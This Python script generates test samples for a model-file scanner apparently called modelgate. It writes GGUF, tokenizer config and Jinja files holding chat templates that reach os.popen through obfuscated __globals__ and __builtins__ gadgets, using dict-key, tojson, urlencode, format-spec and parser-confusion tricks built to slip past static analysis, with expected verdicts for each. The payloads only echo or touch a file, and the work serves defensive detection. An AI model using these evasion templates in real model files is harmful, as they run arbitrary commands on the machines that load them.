#!/usr/bin/python3
"""Writes samples/template-bypass/: chat templates that reach Python internals with attribute
names no literal spells, which once scanned `clean`:

- dict-keys.gguf: GGUF `tokenizer.chat_template` building `__init__`/`__globals__` from keyword
  names (`dict(globals=1)|list|first`, `'_' = dict(_=1)|list|first`), aliasing `namespace` with
  `{% set c = namespace %}` and calling `c[i][g][o][p](...)` with the keys in variables. An
  unsandboxed `jinja2.Environment` (llama-cpp-python < 0.2.72) runs the command.
- dict-keys-config/: the same template as `chat_template` in tokenizer_config.json.
- dict-keys-jinja/: the same template as chat_template.jinja.
- join-alias.gguf: the names joined from list literals of keyword names (`[u, u, dict(init=1)|first,
  u, u]|join`) through a `{% with %}` alias of `cycler`.
- tojson-keys.gguf: the names cut out of `dict(...)|tojson` output.
- urlencode-keys.gguf: the names cut out of `dict(...)|urlencode`, which the analysis does not fold:
  the subscripts of the `namespace` alias by keys it cannot evaluate are what is reported.
- macro-param.gguf: `namespace` passed to a macro whose parameter is subscripted by `|urlencode` keys.
- legit-builtins.gguf: a benign template using namespace(), dict(), range() and dict keys (must
  stay clean).

Templates the analysis once read differently from Jinja (each scanned clean, or passed
`--fail-on medium`, while llama-cpp-python < 0.2.72 ran the command):

- raw-in-comment.gguf / raw-in-string.gguf: `{% raw %}` inside a comment or a string literal, which
  the rewrite for the parser took for a raw block and deleted the real code up to `{% endraw %}`.
- autoescape-expr.gguf: `{% autoescape EXPR %}`, whose EXPR the rewrite dropped (Jinja evaluates it).
- include-expr.gguf: `{% include EXPR ignore missing %}`: Jinja evaluates EXPR, finds no template and
  renders on; only the loader statement was reported.
- generation-literal.gguf: `{% generation %}` inside string literals, which the parser's
  preprocessing removed, so the sliced literal values differed from Python's.
- format-spec.gguf / strip-args.gguf / percent-mapping.gguf: `'{:_>2}'.format('')`, `|trim('-')` and
  `.strip('x-')`, `'%(u)s' % {'u': '__'}`: arguments the constant folding ignored.
- set-block-trim.gguf: `{% set u %}\\n__{% endset %}` is `__` with `trim_blocks` (both
  llama-cpp-python and transformers enable it), not `\\n__`.
- macro-text-keys.gguf: every attribute name is the output of a macro (template text), used as
  subscript keys on a message string; no literal or identifier spells a dunder.
- benign-literals.gguf: a benign template with `{%`, `%}` and `{% generation %}` inside string
  literals, `{% raw %}` in a comment, a real raw block, a block set and a format spec (must stay
  clean; it renders with jinja2).

Payloads are harmless (`echo modelgate-bypass-sample`). The generator proves each of the later
templates runs its command: it renders a copy whose command is `touch <temporary file>` with a plain
`jinja2.Environment(loader=BaseLoader(), trim_blocks=True, lstrip_blocks=True)` (as llama-cpp-python
< 0.2.72 did) and checks the file appeared. Run from the repository root with /usr/bin/python3.
"""
import json
import os
import shutil
import struct

OUT = os.path.join("samples", "template-bypass")
CMD = "echo modelgate-bypass-sample"
LOOP = (
    "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{{ eos_token }}{% endfor %}"
    "{% if add_generation_prompt %}<|assistant|>{% endif %}"
)
expected = {}


def gguf(template):
    def s(b):
        b = b.encode() if isinstance(b, str) else b
        return struct.pack("<Q", len(b)) + b

    kvs = [("general.architecture", "llama"), ("tokenizer.chat_template", template)]
    out = b"GGUF" + struct.pack("<I", 3) + struct.pack("<Q", 0) + struct.pack("<Q", len(kvs))
    for k, v in kvs:
        out += s(k) + struct.pack("<I", 8) + s(v)
    return out


def put(path, data):
    full = os.path.join(OUT, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb" if isinstance(data, bytes) else "w") as f:
        f.write(data)


def expect(case, verdict, rules=(), absent=()):
    entry = {"verdict": verdict}
    if rules:
        entry["rules"] = list(rules)
    if absent:
        entry["absentRules"] = list(absent)
    expected[f"template-bypass/{case}"] = entry


if os.path.isdir(OUT):
    shutil.rmtree(OUT)

DICT_KEYS = (
    "{% set u = dict(_=1)|list|first %}"
    "{% set g = u*2 ~ dict(globals=1)|list|first ~ u*2 %}"
    "{% set i = u*2 ~ dict(init=1)|list|first ~ u*2 %}"
    "{% set o = dict(os=1)|list|first %}{% set p = dict(popen=1)|list|first %}"
    "{% set c = namespace %}{% set x = c[i][g][o][p]('" + CMD + "') %}" + LOOP
)
put("dict-keys.gguf", gguf(DICT_KEYS))
expect("dict-keys.gguf", "malicious", ["template/dunder-access", "template/obfuscated-name", "template/gadget-reference"])
put("dict-keys-config/tokenizer_config.json", json.dumps({"eos_token": "</s>", "chat_template": DICT_KEYS}, indent=1) + "\n")
expect("dict-keys-config", "malicious", ["template/dunder-access", "template/obfuscated-name"])
put("dict-keys-jinja/chat_template.jinja", DICT_KEYS)
expect("dict-keys-jinja", "malicious", ["template/dunder-access", "template/obfuscated-name"])

JOIN_ALIAS = (
    "{% set u = dict(_=1)|first %}"
    "{% with c = cycler, i = [u, u, dict(init=1)|first, u, u]|join, g = (u, u, dict(globals=1)|first, u, u)|join %}"
    "{% set x = c[i][g][dict(os=1)|first][dict(popen=1)|first]('" + CMD + "') %}{% endwith %}" + LOOP
)
put("join-alias.gguf", gguf(JOIN_ALIAS))
expect("join-alias.gguf", "malicious", ["template/dunder-access", "template/obfuscated-name", "template/gadget-reference"])

# `{"globals": 1}`[2:9] is "globals": the names are cut out of tojson output.
TOJSON = (
    "{% set u = (dict(_=1)|tojson)[2] %}"
    "{% set g = u*2 ~ (dict(globals=1)|tojson)[2:9] ~ u*2 %}"
    "{% set i = u*2 ~ (dict(init=1)|tojson)[2:6] ~ u*2 %}"
    "{% set c = namespace %}{% set x = c[i][g][(dict(os=1)|tojson)[2:4]][(dict(popen=1)|tojson)[2:7]]('" + CMD + "') %}" + LOOP
)
put("tojson-keys.gguf", gguf(TOJSON))
expect("tojson-keys.gguf", "malicious", ["template/dunder-access", "template/obfuscated-name", "template/gadget-reference"])

# `dict(globals=1)|urlencode` is "globals=1": urlencode is not folded, so the keys stay unknown and
# the subscripts of the `namespace` alias by them are what is reported.
URLENCODE = (
    "{% set u = (dict(_=1)|urlencode)[0] %}"
    "{% set g = u*2 ~ (dict(globals=1)|urlencode)[:7] ~ u*2 %}"
    "{% set i = u*2 ~ (dict(init=1)|urlencode)[:4] ~ u*2 %}"
    "{% set c = namespace %}{% set x = c[i][g][(dict(os=1)|urlencode)[:2]][(dict(popen=1)|urlencode)[:5]]('" + CMD + "') %}" + LOOP
)
put("urlencode-keys.gguf", gguf(URLENCODE))
expect("urlencode-keys.gguf", "malicious", ["template/dynamic-attribute", "template/gadget-reference"])

MACRO = (
    "{% macro run(c, i, g) %}{{ c[i][g][(dict(os=1)|urlencode)[:2]][(dict(popen=1)|urlencode)[:5]]('" + CMD + "').read() }}{% endmacro %}"
    "{% set u = (dict(_=1)|urlencode)[0] %}"
    "{{ run(namespace, u*2 ~ (dict(init=1)|urlencode)[:4] ~ u*2, u*2 ~ (dict(globals=1)|urlencode)[:7] ~ u*2) }}" + LOOP
)
put("macro-param.gguf", gguf(MACRO))
expect("macro-param.gguf", "malicious", ["template/dynamic-attribute", "template/gadget-reference"])

LEGIT = (
    "{% set ns = namespace(system='', count=0) %}"
    "{% set prefix = dict(system='<|system|>', user='<|user|>', assistant='<|assistant|>') %}"
    "{% for k in prefix %}{% set ns.count = ns.count + (k|length) %}{% endfor %}"
    "{% for i in range(messages|length) %}{% set m = messages[i] %}"
    "{% if m['role'] == 'system' %}{% set ns.system = m['content'] %}{% else %}{{ prefix[m['role']] ~ m['content'] ~ eos_token }}{% endif %}"
    "{% endfor %}{% if add_generation_prompt %}{{ prefix['assistant'] }}{% endif %}"
)
put("legit-builtins.gguf", gguf(LEGIT))
expect("legit-builtins.gguf", "clean")


def prove(template, runs=True):
    """Renders `template` (its command replaced by `touch <temp file>`) as llama-cpp-python did."""
    import tempfile

    import jinja2

    with tempfile.TemporaryDirectory() as tmp:
        marker = os.path.join(tmp, "ran")
        env = jinja2.Environment(loader=jinja2.BaseLoader(), trim_blocks=True, lstrip_blocks=True)
        try:
            env.from_string(template.replace(CMD, "touch " + marker)).render(
                messages=[{"role": "user", "content": "hi"}],
                add_generation_prompt=True,
                bos_token="<s>",
                eos_token="</s>",
                raise_exception=lambda m: None,
            )
        except jinja2.TemplateNotFound:
            pass
        if os.path.exists(marker) != runs:
            raise SystemExit("template-bypass: jinja2 %s the command of %r" % ("did not run" if runs else "ran", template[:80]))


def bypass(name, template, rules, runs=True, verdict="malicious"):
    prove(template, runs)
    put(name, gguf(template))
    expect(name, verdict, rules)


READ = "('" + CMD + "').read()"
GADGET = "cycler.__init__.__globals__.os.popen" + READ
bypass("raw-in-comment.gguf", "{# {% raw %} #}{{ " + GADGET + " }}{# {% endraw %} #}" + LOOP,
       ["template/dunder-access", "template/code-execution-name"])
bypass("raw-in-string.gguf", "{{ '{% raw %}' }}{{ " + GADGET + " }}{{ '{% endraw %}' }}" + LOOP,
       ["template/dunder-access", "template/code-execution-name"])
bypass("autoescape-expr.gguf", "{% autoescape " + GADGET + " is none %}" + LOOP + "{% endautoescape %}",
       ["template/dunder-access", "template/code-execution-name"])
bypass("include-expr.gguf", "{% include " + GADGET + " ignore missing %}" + LOOP,
       ["template/dunder-access", "template/code-execution-name", "template/external-template"])
bypass(
    "generation-literal.gguf",
    "{% set a = 'x{% generation %}__' %}{% set u = a[17:19] %}{% set gl = 'x{% generation %}globals' %}"
    "{% set b = 'x{% generation %}builtins' %}{% set i = 'x{% generation %}import' %}"
    "{% set o = 'x{% generation %}os' %}{% set p = 'x{% generation %}popen' %}"
    "{% set g = raise_exception|attr(u ~ gl[17:] ~ u) %}{% set m = g[u ~ b[17:] ~ u][u ~ i[17:] ~ u](o[17:]) %}"
    "{{ (m|attr(p[17:]))" + READ + " }}" + LOOP,
    ["template/dunder-access", "template/obfuscated-name"],
)
bypass(
    "format-spec.gguf",
    "{% set u = '{:_>2}'.format('') %}{% set g = raise_exception|attr(u ~ '{:g>1}lobals'.format('') ~ u) %}"
    "{% set bi = g[u ~ '{:b>1}uiltins'.format('') ~ u] %}{% set imp = bi[u ~ '{:i>1}mport'.format('') ~ u] %}"
    "{% set o = imp('{:o>1}s'.format('')) %}{{ (o|attr('{:p>1}open'.format('')))" + READ + " }}" + LOOP,
    ["template/dunder-access", "template/obfuscated-name"],
)
bypass(
    "strip-args.gguf",
    "{% set u = '-__-'|trim('-') %}{% set g = raise_exception|attr(u ~ 'x-globals'.strip('x-') ~ u) %}"
    "{% set bi = g[u ~ 'x-builtins'.strip('x-') ~ u] %}{% set imp = bi[u ~ 'x-import'.strip('x-') ~ u] %}"
    "{% set o = imp('x-os'.strip('x-')) %}{{ (o|attr('x-popen'.strip('x-')))" + READ + " }}" + LOOP,
    ["template/dunder-access", "template/obfuscated-name"],
)
bypass(
    "percent-mapping.gguf",
    "{% set k = {'u': '__', 'o': 'o', 'p': 'p'} %}{% set u = '%(u)s' % k %}"
    "{% set g = raise_exception|attr(u ~ 'globals' ~ u) %}{% set bi = g[u ~ 'builtins' ~ u] %}"
    "{% set imp = bi[u ~ 'import' ~ u] %}{% set o = imp('%(o)ss' % k) %}{{ (o|attr('%(p)sopen' % k))" + READ + " }}" + LOOP,
    ["template/dunder-access", "template/obfuscated-name"],
)
bypass(
    "set-block-trim.gguf",
    "{% set u %}\n__{% endset %}{% set os %}\nos{% endset %}{% set po %}\npopen{% endset %}"
    "{% set m = raise_exception|attr(u ~ 'globals' ~ u) %}{% set i = m[u ~ 'builtins' ~ u] %}"
    "{% set o = i[u ~ 'import' ~ u](os) %}{{ (o|attr(po))" + READ + " }}" + LOOP,
    ["template/dunder-access", "template/obfuscated-name"],
)
MACROS = "".join(
    "{% macro " + k + "() %}" + v + "{% endmacro %}"
    for k, v in [("a", "__class__"), ("b", "__base__"), ("c", "__subclasses__"), ("n", "__name__"),
                 ("w", "_wrap_close"), ("i", "__init__"), ("g", "__globals__"), ("p", "popen")]
)
bypass(
    "macro-text-keys.gguf",
    MACROS + "{% for m in messages %}{% for s in m.content[a()][b()][c()]() %}{% if s[n()] == w() %}"
    "{{ s[i()][g()][p()]" + READ + " }}{% endif %}{% endfor %}{% endfor %}" + LOOP,
    ["template/dynamic-attribute"],
    verdict="suspicious",
)
BENIGN = (
    "{#- {% raw %} markers in a comment are text -#}"
    "{%- set sep = '{% generation %}'|length %}{%- set pad = '{:>2}'.format(sep) %}"
    "{%- set header %}\n<|{{ 'us' ~ 'er' }}|>{% endset %}"
    "{{- bos_token ~ header|trim ~ ' %} {{ ' ~ pad }}"
    "{% raw %}{{ not code }}{% endraw %}"
    "{%- for m in messages %}<|{{ m['role'] }}|>{{ m['content'].strip('\\n')|trim }}{{ eos_token }}{%- endfor %}"
    "{% if add_generation_prompt %}<|assistant|>{% endif %}"
)
prove(BENIGN, runs=False)
put("benign-literals.gguf", gguf(BENIGN))
expect("benign-literals.gguf", "clean")

with open(os.path.join(OUT, "expected.json"), "w") as f:
    json.dump(expected, f, indent=1)
    f.write("\n")
